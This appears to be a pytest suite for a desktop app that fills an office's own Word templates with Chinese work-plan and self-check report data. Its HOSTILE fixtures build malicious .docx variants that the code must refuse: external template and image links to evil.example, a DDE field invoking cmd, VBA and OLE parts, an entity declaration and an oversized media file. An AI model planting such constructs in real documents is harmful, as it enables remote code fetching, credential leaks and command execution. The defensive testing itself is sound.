"""The office's own Word template: checked in Chinese, filled whole, refused where it is hostile."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from datetime import date

import pytest
from ooxml_integrity import check as integrity
from openxml_audit import OpenXmlValidator

from desktop_app.core.errors import UserError
from desktop_app.core.snapshot import Audience, DocumentOptions, Formalities, Stage
from desktop_app.core.terms import Document
from desktop_app.core.versions import UNTOUCHED
from desktop_app.reports import department_plan, self_check
from desktop_app.reports.readback import ReadBackError
from desktop_app.services import documents, own_templates, tasks, undo, versions
from desktop_app.services.own_templates import StoredTemplate
from tests.reports import samples
from tests.reports import test_parts as parts
from tests.wordtext import document_text

UNIT, TODAY = "市财政局", date(2021, 7, 5)
OPTIONS = DocumentOptions()
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def sample(tmp_path, which=Document.PLAN) -> StoredTemplate:
    out = tmp_path / f"{which.name}.docx"
    own_templates.sample(None, "", "", which, out)
    return own_templates.read(out)


def changed(template: StoredTemplate, edit=None, **parts: str | bytes) -> StoredTemplate:
    """The template with its main part edited and further parts added (``a__b`` for ``a/b``)."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template.data)) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            text = old.read(name)
            if name == "word/document.xml" and edit is not None:
                text = edit(text.decode()).encode()
            if name not in parts:
                new.writestr(name, text)
        for name, content in parts.items():
            new.writestr(name, content)
    return replace(template, data=made.getvalue())


def related(template: StoredTemplate, relation: str) -> StoredTemplate:
    name = "word/_rels/document.xml.rels"
    with zipfile.ZipFile(io.BytesIO(template.data)) as package:
        text = package.read(name).decode()
    return changed(template, **{name: text.replace("</Relationships>", f"{relation}</Relationships>")})


def words(template, which=Document.PLAN):
    return [f.text for f in own_templates.check(template, which).findings]


def hard(template, which=Document.PLAN):
    return [f.text for f in own_templates.check(template, which).findings if f.hard]


def written(template, taken, which, out, options=OPTIONS):
    make = department_plan.write if which is Document.PLAN else self_check.write
    return own_templates.write(
        template, taken, which, out, options, UNTOUCHED, lambda o, to: make(taken, o, to)
    )


def text_of(path, part="word/document.xml") -> str:
    with zipfile.ZipFile(path) as package:
        return "".join(re.findall(r"<w:t[ >][^<]*", package.read(part).decode())).replace("<w:t", "")


@pytest.mark.parametrize("which", list(Document))
def test_the_starting_template_is_sound_and_may_be_used_at_once(tmp_path, which):
    template = sample(tmp_path, which)
    assert hard(template, which) == []
    out = tmp_path / "out.docx"
    written(template, samples.mixed(), which, out)
    assert [str(f) for f in integrity(out)] == []
    text = text_of(out)
    assert "{{" not in text
    for task in samples.mixed().tasks:
        assert task.label in text


def test_a_row_is_repeated_for_every_task_under_its_section(tmp_path):
    out = tmp_path / "out.docx"
    taken = samples.mixed()
    written(sample(tmp_path), taken, Document.PLAN, out)
    with zipfile.ZipFile(out) as package:
        rows = package.read("word/document.xml").decode().split("<w:tr>")
    sections = len({t.section_index for t in taken.tasks})
    assert len(rows) - 1 == 1 + sections + len(taken.tasks)


def test_an_unknown_name_is_told_with_the_one_that_was_meant(tmp_path):
    template = changed(sample(tmp_path), lambda t: t.replace("{{标题}}", "{{标提}}"))
    assert "没有名为 {{标提}} 的占位，是否为 {{标题}}" in hard(template)
    assert "缺少 {{标题}}" in hard(template)


def test_a_name_of_the_other_document_is_told_as_such(tmp_path):
    template = changed(sample(tmp_path), lambda t: t.replace("{{任务.渠道}}", "{{任务.结论}}"))
    assert "{{任务.结论}} 只用于年度自查报告" in hard(template)


def test_a_torn_placeholder_is_put_together_and_filled(tmp_path):
    torn = changed(
        sample(tmp_path),
        lambda t: t.replace(
            "{{署名}}",
            '{{署</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:t>名</w:t></w:r><w:r><w:t>}}（盖章）',
        ),
    )
    assert "{{署名}} 被格式拆成几段，生成时自动接合" in words(torn)
    assert hard(torn) == []
    out = tmp_path / "out.docx"
    written(torn, samples.mixed(), Document.PLAN, out)
    assert "佛山市财政局（盖章）" in text_of(out).replace(">", "").replace(' xml:space="preserve"', "")


def test_a_placeholder_torn_by_a_line_break_has_to_be_typed_again(tmp_path):
    torn = changed(sample(tmp_path), lambda t: t.replace("{{署名}}", "{{署</w:t><w:br/><w:t>名}}"))
    assert "正文中的 {{署名}} 被换行或其他内容拆开，请删去后重新输入" in hard(torn)


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ("{{署名}}", "{{署名}", "正文中有不成对的花括号"),
        ("{{署名}}", "{{任务.要求}}", "{{任务.要求}} 只能放在正文的表格里"),
        ("{{正文}}", "见：{{正文}}", "{{正文}} 要在正文中单独成段"),
        ("{{任务.措施}}", "—", "任务一行缺少 {{任务.措施}}"),
    ],
)
def test_what_is_misplaced_or_missing_is_told(tmp_path, old, new, told):
    template = changed(sample(tmp_path), lambda t: t.replace(old, new))
    assert any(line.startswith(told) for line in hard(template))


def test_full_width_braces_are_placeholders_too(tmp_path):
    template = changed(sample(tmp_path), lambda t: t.replace("{{署名}}", "｛｛ 署名 ｝｝"))
    out = tmp_path / "out.docx"
    written(template, samples.mixed(), Document.PLAN, out)
    assert "｛" not in text_of(out)


def test_a_template_without_a_table_has_the_tasks_in_its_body(tmp_path):
    def no_table(text: str) -> str:
        return re.sub(r"<w:tbl>.*</w:tbl>", "", text, flags=re.DOTALL)

    template = changed(sample(tmp_path), no_table)
    assert hard(template) == []
    out = tmp_path / "out.docx"
    written(template, samples.mixed(), Document.PLAN, out)
    assert text_of(out).count("落实措施：") == len(samples.mixed().tasks) - 1


def test_the_standard_table_fits_the_template_s_page(tmp_path):
    def narrow(text: str) -> str:
        table = re.compile(r"<w:tbl>.*</w:tbl>", re.DOTALL)
        text = table.sub("<w:p><w:r><w:t>{{任务表}}</w:t></w:r></w:p>", text)
        return re.sub(r'w:left="\d+"( w:header)', r'w:left="3000"\1', text)

    out = tmp_path / "out.docx"
    written(changed(sample(tmp_path), narrow), samples.mixed(), Document.PLAN, out)
    with zipfile.ZipFile(out) as package:
        text = package.read("word/document.xml").decode()
    page = re.findall(r'<w:pgSz w:w="(\d+)"', text)[-1]
    right, left = re.findall(r'<w:pgMar[^>]*w:right="(\d+)"[^>]*w:left="(\d+)"', text)[-1]
    grid = re.search(r"<w:tblGrid>(.*?)</w:tblGrid>", text, re.DOTALL)[1]
    assert sum(map(int, re.findall(r'w:w="(\d+)"', grid))) == int(page) - int(right) - int(left)


def test_values_of_the_header_are_filled_too(tmp_path):
    with zipfile.ZipFile(io.BytesIO(sample(tmp_path).data)) as package:
        footer = package.read("word/footer_odd.xml").decode()
    footer = footer.replace("</w:p>", "<w:r><w:t>{{单位全称}}</w:t></w:r></w:p>", 1)
    out = tmp_path / "out.docx"
    template = changed(sample(tmp_path), **{"word/footer_odd.xml": footer})
    written(template, samples.mixed(), Document.PLAN, out)
    assert "佛山市财政局" in text_of(out, "word/footer_odd.xml")


def test_the_public_version_names_no_person(tmp_path):
    template = changed(
        sample(tmp_path), lambda t: t.replace("{{任务.科室}}", "{{任务.科室}}{{任务.责任人}}{{任务.备注}}")
    )
    out = tmp_path / "out.docx"
    written(template, samples.mixed(), Document.PLAN, out, DocumentOptions(audience=Audience.PUBLIC))
    text = text_of(out)
    assert "示例甲" not in text and "示例联络员" not in text and "0757" not in text


def test_markup_in_what_was_typed_stays_text(tmp_path):
    taken = samples.mixed()
    odd = "{% for x in y %}{{ 7*7 }}<w:br/>&lt;{{标题}}b"
    first = replace(taken.tasks[0], fields=replace(taken.tasks[0].fields, measures=(odd,)))
    out = tmp_path / "out.docx"
    written(sample(tmp_path), replace(taken, tasks=(first, *taken.tasks[1:])), Document.PLAN, out)
    with zipfile.ZipFile(out) as package:
        assert "{{ 7*7 }}&lt;w:br/&gt;&amp;lt;{{标题}}b" in package.read("word/document.xml").decode()


HOSTILE = {
    "宏": lambda t: changed(t, **{"word/vbaProject.bin": b"x"}),
    "外部模板": lambda t: related(
        t, f'<Relationship Id="rE" Type="{_REL}/attachedTemplate" Target="http://evil.example/x.dotm" '
        'TargetMode="External"/>'
    ),
    "外部图片": lambda t: related(
        t, f'<Relationship Id="rE" Type="{_REL}/image" Target="\\\\evil.example\\x.png" '
        'TargetMode="External"/>'
    ),
    "对象": lambda t: related(
        t, f'<Relationship Id="rE" Type="{_REL}/oleObject" Target="embeddings/o.bin"/>'
    ),
    "域": lambda t: changed(
        t, lambda x: x.replace(
            "<w:t", '<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r>'
            '<w:instrText>AUTO c:\\\\cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
            "</w:r><w:r><w:t", 1
        )
    ),
    "旧式图片": lambda t: changed(
        t, lambda x: x.replace(
            "<w:t", '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
            'src="http://evil.example/x.png"/></v:shape></w:pict></w:r><w:r><w:t', 1
        )
    ),
    "实体": lambda t: changed(
        t, lambda x: x.replace("<w:document", '<!DOCTYPE a [<!ENTITY b "c">]><w:document', 1)
    ),
    "炸弹": lambda t: changed(t, **{"word/media/a.png": b"\0" * (40 << 20)}),
    "空文件": lambda t: replace(t, data=b""),
    "不是文档": lambda t: replace(t, data=b"PK\x03\x04 nothing"),
}  # fmt: skip


def test_a_row_within_a_content_control_is_repeated_too(tmp_path):
    row = re.compile(r"<w:tr>(?:(?!<w:tr>).)*?任务\.序号.*?</w:tr>", re.DOTALL)
    template = changed(
        sample(tmp_path),
        lambda t: row.sub(lambda m: f"<w:sdt><w:sdtContent>{m[0]}</w:sdtContent></w:sdt>", t),
    )
    assert hard(template) == []
    out = tmp_path / "out.docx"
    written(template, samples.mixed(), Document.PLAN, out)
    assert all(task.label in text_of(out) for task in samples.mixed().tasks)


def test_a_placeholder_in_a_footnote_is_told(tmp_path):
    with zipfile.ZipFile(io.BytesIO(sample(tmp_path).data)) as package:
        notes = package.read("word/footnotes.xml").decode()
    notes = notes.replace("</w:p>", "<w:r><w:t>{{标题}}</w:t></w:r></w:p>", 1)
    template = changed(sample(tmp_path), **{"word/footnotes.xml": notes})
    assert "脚注和尾注中不能写占位，请移到正文" in hard(template)


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_template_is_refused_with_a_sentence(tmp_path, kind):
    with pytest.raises(UserError):
        own_templates.check(HOSTILE[kind](sample(tmp_path)), Document.PLAN)


def test_what_a_printed_document_needs_not_is_left_out(tmp_path):
    custom = f'<Relationship Id="rC" Type="{_REL}/customXml" Target="../customXml/item1.xml"/>'
    attached = (
        f'<Relationship Id="rT" Type="{_REL}/attachedTemplate" Target="file:///C:\\Users\\a\\Normal.dotm" '
        'TargetMode="External"/>'
    )
    template = changed(related(sample(tmp_path), custom + attached), **{"customXml/item1.xml": "<a/>"})
    out = tmp_path / "out.docx"
    written(template, samples.mixed(), Document.PLAN, out)
    with zipfile.ZipFile(out) as package:
        everything = b"".join(map(package.read, package.namelist()))
        assert "customXml/item1.xml" not in package.namelist()
    assert b"Users" not in everything


def test_a_lost_datum_fails_the_export_and_the_old_file_stays(tmp_path, monkeypatch):
    from desktop_app.reports import own_template_fields

    out = tmp_path / "out.docx"
    out.write_bytes(b"old")
    real = own_template_fields.Filling._task

    def forgetful(self, task, title):
        return real(self, task, title) | {"措施": ("—",)}

    monkeypatch.setattr(own_template_fields.Filling, "_task", forgetful)
    with pytest.raises(ReadBackError, match="落实措施"):
        written(sample(tmp_path), samples.mixed(), Document.PLAN, out)
    assert out.read_bytes() == b"old"


def test_a_thousand_tasks_all_come_into_the_template(tmp_path):
    template, taken = sample(tmp_path), samples.many(1000)
    written(template, taken, Document.PLAN, tmp_path / "out.docx")
    text = document_text(tmp_path / "out.docx")
    labels = set(text.splitlines())
    assert [task.label for task in taken.tasks if task.label not in labels] == []


# -- in the ledger -----------------------------------------------------------------------------------


def test_a_chosen_template_is_used_kept_with_the_version_and_taken_back(ledger, plan_id, tmp_path):
    template = changed(sample(tmp_path), lambda t: t.replace("{{署名}}", "{{署名}}（示例章）"))
    tasks.edit(ledger, UNIT, tasks.task_list(ledger, plan_id, UNIT).tasks[0].id, {"measures": ("按月公开",)})
    own_templates.choose(ledger, UNIT, Document.PLAN, template)
    out = tmp_path / "out.docx"
    version, _, _ = versions.keep(
        ledger, plan_id, UNIT, Document.PLAN, out, DocumentOptions(), TODAY, Stage.REVIEW
    )
    assert "（示例章）" in text_of(out) and "按月公开" in text_of(out)
    assert own_templates.of_version(ledger, version.id) == (template.name, template.sha256)
    own_templates.unchoose(ledger, UNIT, Document.PLAN)
    documents.export(ledger, plan_id, UNIT, Document.PLAN, out, DocumentOptions(), TODAY)
    assert "（示例章）" not in text_of(out)
    undo.undo(ledger)
    assert own_templates.chosen(ledger, UNIT, Document.PLAN) == template


def test_a_template_with_faults_cannot_be_chosen(ledger, plan_id, tmp_path):
    template = changed(sample(tmp_path), lambda t: t.replace("{{标题}}", "{{标提}}"))
    with pytest.raises(UserError, match="标提"):
        own_templates.choose(ledger, UNIT, Document.PLAN, template)
    assert own_templates.chosen(ledger, UNIT, Document.PLAN) is None


def test_particulars_reach_the_template(ledger, plan_id, tmp_path):
    template = changed(sample(tmp_path), lambda t: t.replace("{{署名}}", "{{发文字号}}{{署名}}"))
    options = DocumentOptions(formalities=Formalities(doc_no="云财〔2021〕3号"), signed_on=date(2021, 7, 1))
    out = tmp_path / "out.docx"
    documents.export(ledger, plan_id, UNIT, Document.PLAN, out, options, TODAY, template)
    assert "云财〔2021〕3号" in text_of(out) and "2021年7月1日" in text_of(out)


def test_an_absent_or_large_file_is_refused(tmp_path):
    with pytest.raises(UserError, match="读不出来"):
        own_templates.read(tmp_path / "无.docx")
    big = tmp_path / "大.docx"
    big.write_bytes(b"0" * (own_templates.LARGEST + 1))
    with pytest.raises(UserError, match="5 MB"):
        own_templates.read(big)


# -- charts, comparison, self-assessment ---------------------------------------------------------------


def audited(path) -> list[str]:
    return [str(error) for error in OpenXmlValidator().validate(str(path)).errors]


def test_charts_come_along_with_their_parts(tmp_path):
    out, taken = tmp_path / "out.docx", parts.full()
    written(sample(tmp_path, Document.REPORT), taken, Document.REPORT, out)
    with zipfile.ZipFile(out) as package:
        charts = [name for name in package.namelist() if name.startswith("word/charts/")]
        drawn = package.read("word/document.xml").decode().count("<c:chart ")
        types = package.read("[Content_Types].xml").decode()
    assert drawn and len(charts) == drawn and all(f"/{name}" in types for name in charts)
    assert audited(out) == [] and [str(f) for f in integrity(out)] == []


def test_the_self_assessment_needs_its_place(tmp_path):
    taken, out = parts.full(), tmp_path / "out.docx"
    template = changed(sample(tmp_path, Document.REPORT), lambda t: t.replace("{{自评表}}", ""))
    with pytest.raises(UserError, match="自评表"):
        written(template, taken, Document.REPORT, out, parts.EVERYTHING)
    assert not out.exists()
    placed = changed(template, lambda t: t.replace("{{成文日期}}", "{{自评表}}"))
    written(placed, taken, Document.REPORT, out, parts.EVERYTHING)
    assert "方案公开&lt;&amp;" in text_of(out)


def test_the_starting_template_holds_the_self_assessment_and_no_page_for_none(tmp_path):
    template, out = sample(tmp_path, Document.REPORT), tmp_path / "out.docx"
    written(template, parts.full(), Document.REPORT, out, parts.EVERYTHING)
    said = text_of(out)
    assert "附件3" in said and "自评得分" in said and "方案公开&lt;&amp;" in said
    assert audited(out) == [] and [str(f) for f in integrity(out)] == []
    written(template, samples.mixed(), Document.REPORT, out)
    said = text_of(out)
    assert "附件2" in said and "附件3" not in said and "自评" not in said
    assert audited(out) == [] and [str(f) for f in integrity(out)] == []


def test_a_page_with_words_of_the_office_stays_without_a_self_assessment(tmp_path):
    out = tmp_path / "out.docx"
    said = "<w:p><w:r><w:t>（示例）评分办法另附。</w:t></w:r></w:p>"
    own = changed(
        sample(tmp_path, Document.REPORT),
        lambda t: re.sub(r"(<w:p>(?:(?!<w:p>).)*\{\{自评表)", rf"{said}\1", t),
    )
    written(own, samples.mixed(), Document.REPORT, out)
    assert "附件3" in text_of(out) and "评分办法另附" in text_of(out)


def test_many_torn_placeholders_are_told_in_one_line(tmp_path):
    def tear(text: str) -> str:
        return re.sub(r"\{\{([^}]+)\}\}", r"{{</w:t></w:r><w:r><w:t>\1</w:t></w:r><w:r><w:t>}}", text)

    template = changed(sample(tmp_path), tear)
    told = [line for line in words(template) if "拆成几段" in line]
    assert told == ["{{标题}}、{{正文}}、{{附件说明}} 等 18 种被格式拆成几段，生成时自动接合"]
    out = tmp_path / "out.docx"
    written(template, samples.mixed(), Document.PLAN, out)
    assert "{{" not in text_of(out)


def test_a_template_with_any_torn_part_is_refused(tmp_path):
    whole = sample(tmp_path)
    with zipfile.ZipFile(io.BytesIO(whole.data)) as package:
        listed = {n: package.read(n) for n in package.namelist() if n.endswith((".xml", ".rels"))}
    assert len(listed) > 4
    for name, content in listed.items():
        torn = changed(whole, **{name: content[: len(content) // 2] + b"<" + content[len(content) // 2 :]})
        # What a template has no use for is left out, whatever it is.
        if not name.startswith("docProps/"):
            with pytest.raises(UserError, match="损坏"):
                own_templates.check(torn, Document.PLAN)
